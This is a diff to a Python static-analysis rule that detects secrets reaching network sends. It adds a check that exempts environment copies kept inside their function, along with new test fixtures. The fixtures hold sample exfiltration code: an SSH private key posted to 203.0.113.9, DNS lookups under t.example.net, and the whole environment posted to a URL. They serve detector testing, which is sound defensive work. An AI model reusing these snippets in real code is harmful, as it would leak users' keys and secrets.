@@ -68,10 +68,68 @@ def meet_here(a: Reached, b: Reached) -> bool:
 
 def pairs(reached: list[Reached], first: set[str], second: set[str]) -> Iterator[tuple[Reached, Reached]]:
     for a in reached:
-        if a.fact.kind in first:
+        if a.fact.kind in first and not kept_local(a):
             for b in reached:
                 if b.fact.kind in second and b is not a and meet_here(a, b):
                     yield a, b
+
+
+# Uses that keep a copy of the environment inside its function: a process's environment, put back
+# into `os.environ`, or edited in place (`env["X"] = "1"`, `env.pop("Y")`, `env.get("Z")`).
+_LOCAL_ENV_METHODS = frozenset({"update", "setdefault", "pop", "get", "clear", "__setitem__"})
+
+
+def kept_local(part: Reached) -> bool:
+    """A copy of the environment (`dict(os.environ, ...)`) that never leaves its function: only
+    handed to a process as `env=`, restored into `os.environ` (requests' tests save and restore the
+    environment around a test that then sends a request) or edited in place. Nothing of it can
+    reach a network send, so it is not the secret part of a combination. Returned, yielded, stored
+    on an object or a global, or passed as any other argument, it leaves and counts."""
+    fact = part.fact
+    if fact.detail != "dumps the environment" or not isinstance(fact.node, cst.Call) \
+            or s.dotted(fact.node.func) != "dict" or part.scope.qualname == MODULE:
+        return False
+    parents: dict[int, cst.CSTNode] = {}
+    stack: list[cst.CSTNode] = [part.scope.node]
+    while stack:
+        node = stack.pop()
+        for child in s.children(node):
+            parents[id(child)] = node
+            stack.append(child)
+    return _stays(fact.node, part.scope.node, parents, depth=0)
+
+
+def _stays(node: cst.CSTNode, root: cst.CSTNode, parents: dict[int, cst.CSTNode], depth: int) -> bool:
+    parent = parents.get(id(node))
+    if isinstance(parent, cst.Expr):  # a statement whose value is dropped: `env.pop("PYTHONPATH", None)`
+        return True
+    if isinstance(parent, cst.Arg):
+        call = parents.get(id(parent))
+        keyword = parent.keyword.value if parent.keyword is not None else ""
+        return keyword == "env" or (isinstance(call, cst.Call) and s.dotted(call.func) == "os.environ.update")
+    if isinstance(parent, cst.Subscript) and parent.value is node:  # env["X"] = "1" / del env["X"] / env["X"]
+        return isinstance(parents.get(id(parent)), (cst.AssignTarget, cst.Del)) or \
+            _stays(parent, root, parents, depth)
+    if isinstance(parent, cst.Attribute) and parent.value is node:
+        call = parents.get(id(parent))
+        if parent.attr.value not in _LOCAL_ENV_METHODS or not isinstance(call, cst.Call):
+            return False
+        return parent.attr.value not in ("get", "pop") or _stays(call, root, parents, depth)  # one value read
+    if isinstance(parent, cst.Assign) and parent.value is node and depth == 0 and len(parent.targets) == 1 \
+            and isinstance(parent.targets[0].target, cst.Name):
+        name = parent.targets[0].target.value
+        if any(isinstance(n, (cst.Global, cst.Nonlocal)) for n in s._walk(root, False)):
+            return False
+        uses = [n for n in s._walk(root, True) if isinstance(n, cst.Name) and n.value == name
+                and n is not parent.targets[0].target]
+        return all(_stays(use, root, parents, depth + 1) for use in uses if not _bound_here(use, parents))
+    return False
+
+
+def _bound_here(name: cst.Name, parents: dict[int, cst.CSTNode]) -> bool:
+    """The name is assigned (`env = ...` again), not read."""
+    parent = parents.get(id(name))
+    return isinstance(parent, cst.AssignTarget) and parent.target is name
 
 
 # --- exfiltration -------------------------------------------------------------------------------
@@ -127,6 +185,25 @@ class SecretReadReachesNetwork(_CombinationRule):
         "def backup():\n"
         "    data = (Path.home() / '.ssh' / 'id_rsa').read_text()\n"
         "    requests.post('https://203.0.113.9/k', data=data)\n",
+        # the environment is copied for a test server's process and saved and restored around a
+        # request: no copy leaves its function, so none can be what the request sends
+        "import contextlib, os, subprocess, requests\n"
+        "@contextlib.contextmanager\n"
+        "def patched_env(**values):\n"
+        "    saved = dict(os.environ)\n"
+        "    os.environ.update(values)\n"
+        "    try:\n        yield\n"
+        "    finally:\n        os.environ.clear()\n        os.environ.update(saved)\n"
+        "def start_server(port):\n"
+        "    env = dict(os.environ, PORT=str(port))\n"
+        "    env['DEBUG'] = '1'\n"
+        "    env.pop('PYTHONPATH', None)\n"
+        "    return subprocess.Popen(['python', '-m', 'http.server', str(port)], env=env)\n"
+        "def test_proxy_from_environment(url):\n"
+        "    server = start_server(8000)\n"
+        "    with patched_env(HTTPS_PROXY='socks5://127.0.0.1:9'):\n"
+        "        requests.get(url)\n"
+        "    server.kill()\n",
     )
     INVALID = (
         "import threading, requests\nfrom pathlib import Path\n"
@@ -152,6 +229,15 @@ class SecretReadReachesNetwork(_CombinationRule):
         "    for label in _labels():\n"
         "        # ruleid: secret-read-reaches-network-through-calls\n"
         "        socket.gethostbyname(f'{label}.t.example.net')\n",
+        # the same copy of the environment, but returned by its helper: it leaves and is sent
+        "import os, requests\n"
+        "def _runtime_env():\n"
+        "    env = dict(os.environ)\n"
+        "    env.pop('PATH', None)\n"
+        "    return env\n"
+        "def report(url):\n"
+        "    # ruleid: secret-read-reaches-network-through-calls\n"
+        "    requests.post(url, json={'env': _runtime_env()})\n",
     )
 
     def combine(self, index: Index, summary: FileSummary, scope: Scope, reached: list[Reached]) -> Combination | None:
